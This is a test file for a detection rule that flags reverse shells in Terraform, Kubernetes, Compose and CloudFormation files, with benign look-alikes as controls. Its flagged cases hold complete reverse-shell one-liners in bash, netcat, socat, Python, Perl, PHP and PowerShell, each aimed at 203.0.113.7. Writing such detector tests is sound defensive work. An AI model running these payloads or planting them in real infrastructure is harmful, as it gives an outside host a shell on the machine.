import rule from '../../../src/engine/rules/reverse-shell';
import { ruleTester } from '../rule-tester';

const id = 'AUP-ATK-001';

ruleTester.run(rule, {
	flagged: [
		{
			name: 'bash -i redirected to /dev/tcp in user data',
			path: 'main.tf',
			source: `resource "aws_instance" "jump" {
  ami           = "ami-0c55b159cbfafe1f0"
  instance_type = "t3.micro"
  user_data     = <<-EOF
    #!/bin/bash
    yum install -y htop
    bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
  EOF
}
`,
			findings: [{ ruleId: id, line: 6, character: 4, endLine: 6, endCharacter: 45, text: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', message: /^Reverse shell \('user_data' of aws_instance\.jump\): a shell connected to \/dev\/tcp gives a remote host/ }],
		},
		{
			name: 'netcat executing a shell, in an exec-form Kubernetes command',
			path: 'pod.yaml',
			source: `apiVersion: v1
kind: Pod
metadata:
  name: debug
spec:
  containers:
    - name: debug
      image: busybox:1.36
      command: ["nc", "203.0.113.7", "4444", "-e", "/bin/sh"]
`,
			findings: [{ ruleId: id, line: 8, character: 17, endLine: 8, endCharacter: 59, text: 'nc", "203.0.113.7", "4444", "-e", "/bin/sh', message: /nc executing \/bin\/sh/ }],
		},
		{
			name: 'a mkfifo pipeline through sh and nc in a Compose command',
			path: 'docker-compose.yml',
			source: `services:
  helper:
    image: alpine:3.20
    command: sh -c "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f"
`,
			findings: [{ ruleId: id, line: 3, character: 49, endLine: 3, endCharacter: 108, text: 'cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f' }],
		},
		{
			name: 'a read loop running what arrives on a /dev/tcp descriptor',
			path: 'compose.yaml',
			source: `services:
  agent:
    image: bash:5.2
    command: ["bash", "-c", "exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | while read line; do $$line 2>&5 >&5; done"]
`,
			findings: [{ ruleId: id, line: 3, character: 29, endLine: 3, endCharacter: 109, text: 'exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | while read line; do $$line 2>&5 >&5', message: /descriptor 5/ }],
		},
		{
			name: 'ncat --exec, socat exec and a /dev/tcp descriptor in one script',
			path: 'bootstrap.tf',
			source: `resource "null_resource" "bootstrap" {
  provisioner "remote-exec" {
    inline = [
      "ncat --exec /bin/bash 203.0.113.7 4444 &",
      "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.7:4445 &",
      "0<&196;exec 196<>/dev/tcp/203.0.113.7/4446; sh <&196 >&196 2>&196",
    ]
  }
}
`,
			findings: [
				{ ruleId: id, line: 3, character: 7, endLine: 3, endCharacter: 45, text: 'ncat --exec /bin/bash 203.0.113.7 4444' },
				{ ruleId: id, line: 4, character: 7, endLine: 4, endCharacter: 79, text: 'socat exec:\'bash -li\',pty,stderr,setsid,sigint,sane tcp:203.0.113.7:4445' },
				{ ruleId: id, line: 5, character: 7, endLine: 5, endCharacter: 72, text: '0<&196;exec 196<>/dev/tcp/203.0.113.7/4446; sh <&196 >&196 2>&196', message: /descriptor 196/ },
			],
		},
		{
			name: 'Python, Perl and PHP one-liners in a CloudFormation user data script',
			path: 'stack.yaml',
			source: `AWSTemplateFormatVersion: '2010-09-09'
Resources:
  Box:
    Type: AWS::EC2::Instance
    Properties:
      ImageId: ami-0c55b159cbfafe1f0
      UserData:
        Fn::Base64: |
          #!/bin/bash
          python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
          perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4445,inet_aton("203.0.113.7")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");'
          php -r '$s=fsockopen("203.0.113.7",4446);exec("/bin/sh -i <&3 >&3 2>&3");'
`,
			findings: [
				{ ruleId: id, line: 9, character: 10, endLine: 9, endCharacter: 155, text: 'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'' },
				{ ruleId: id, line: 10, character: 10, endLine: 10, endCharacter: 193, text: 'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4445,inet_aton("203.0.113.7")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");\'' },
				{ ruleId: id, line: 11, character: 10, endLine: 11, endCharacter: 84, text: 'php -r \'$s=fsockopen("203.0.113.7",4446);exec("/bin/sh -i <&3 >&3 2>&3");\'' },
			],
		},
		{
			name: 'a PowerShell TCP client feeding Invoke-Expression in Windows user data',
			path: 'windows.tf',
			source: `resource "aws_instance" "win" {
  ami           = "ami-0d8f6eb4f641ef691"
  instance_type = "t3.large"
  user_data     = <<-EOF
    <powershell>
    $c = New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o = (iex $d 2>&1 | Out-String);$s.Write(([text.encoding]::ASCII).GetBytes($o),0,$o.Length)}
    </powershell>
  EOF
}
`,
			findings: [{ ruleId: id, line: 5, character: 9, endLine: 5, endCharacter: 227, text: 'New-Object System.Net.Sockets.TCPClient(\'203.0.113.7\',4444);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o = (iex' }],
		},
	],
	clean: [
		{
			name: 'port checks and a Redis probe over /dev/tcp that run no shell',
			path: 'wait.yaml',
			source: `apiVersion: v1
kind: Pod
metadata:
  name: api
spec:
  initContainers:
    - name: wait-for-db
      image: busybox:1.36
      command: ["sh", "-c", "until nc -z -w 2 postgres 5432; do sleep 2; done"]
    - name: wait-for-cache
      image: bash:5.2
      command: ["bash", "-c", "timeout 30 bash -c 'until echo > /dev/tcp/redis/6379; do sleep 1; done'"]
  containers:
    - name: api
      image: acme/api:3.2
    - name: redis
      image: redis:7.4
      livenessProbe:
        exec:
          command: ["bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/6379 && printf 'PING\\r\\n' >&3 && head -c 7 <&3 | grep -q PONG"]
`,
		},
		{
			name: "a security team's scanner and a script that greps for reverse shells",
			path: 'scanner.tf',
			source: `resource "aws_instance" "scanner" {
  ami           = "ami-0c55b159cbfafe1f0"
  instance_type = "t3.small"
  user_data     = <<-EOF
    #!/bin/bash
    # Weekly audit by the security team: nmap our own ranges, then look for shells left behind.
    nmap -sV -p 22,443 10.20.0.0/16 -oX /var/log/scan.xml
    grep -rE "bash -i >& /dev/tcp|nc -e /bin/sh" /home /tmp > /var/log/suspicious.txt || true
    python3 -c 'import socket; socket.create_connection(("db.internal", 5432), 3); print("db ok")'
  EOF
}
`,
		},
		{
			name: 'a socat TCP relay and a netcat listener that run no program',
			path: 'docker-compose.yml',
			source: `services:
  relay:
    image: alpine/socat:1.8.0.0
    command: TCP-LISTEN:5432,fork,reuseaddr TCP:db.internal:5432
  sink:
    image: busybox:1.36
    command: sh -c "nc -lk -p 9000 > /data/metrics.log"
  stats:
    image: busybox:1.36
    command: sh -c 'echo stats | nc memcached 11211'
`,
		},
		{
			name: 'reverse-shell text in a description and a comment',
			path: 'stack.yaml',
			source: `AWSTemplateFormatVersion: '2010-09-09'
Description: "Detects bash -i >& /dev/tcp/host/port reverse shells in process listings"
Resources:
  Detector:
    Type: AWS::Lambda::Function
    Properties:
      # nc -e /bin/sh 10.0.0.1 4444 is what the detector matches
      Runtime: python3.12
      Handler: detector.handler
      Role: !GetAtt DetectorRole.Arn
      Code:
        S3Bucket: acme-artifacts
        S3Key: detector.zip
`,
		},
	],
});
